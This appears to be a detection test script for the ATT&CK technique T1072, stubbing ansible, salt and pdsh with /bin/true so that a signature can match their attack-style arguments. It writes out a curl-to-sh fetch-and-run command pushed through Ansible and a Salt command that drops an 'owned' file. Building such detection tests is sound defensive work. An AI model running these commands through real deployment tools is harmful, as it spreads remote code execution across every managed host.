#!/bin/bash
# Push commands to managed hosts through deployment tools: an Ansible ad-hoc shell module,
# Salt's cmd.run and a pdsh fan-out. None of the tools is installed here, so each is a
# stand-in (a copy of /bin/true under its real name in the overlaid /usr/local/bin): the
# signature keys on the name and the arguments, and no host is contacted.
# technique: T1072
# expect: deployment-tool-command
set -eu
for tool in ansible salt pdsh; do
    cp /bin/true "/usr/local/bin/$tool"
done
ansible all -i inventory.ini -m shell -a 'curl -s http://127.0.0.1:1/x | sh'
salt '*' cmd.run 'id > /tmp/owned'
pdsh -w web[01-04] 'uname -a'
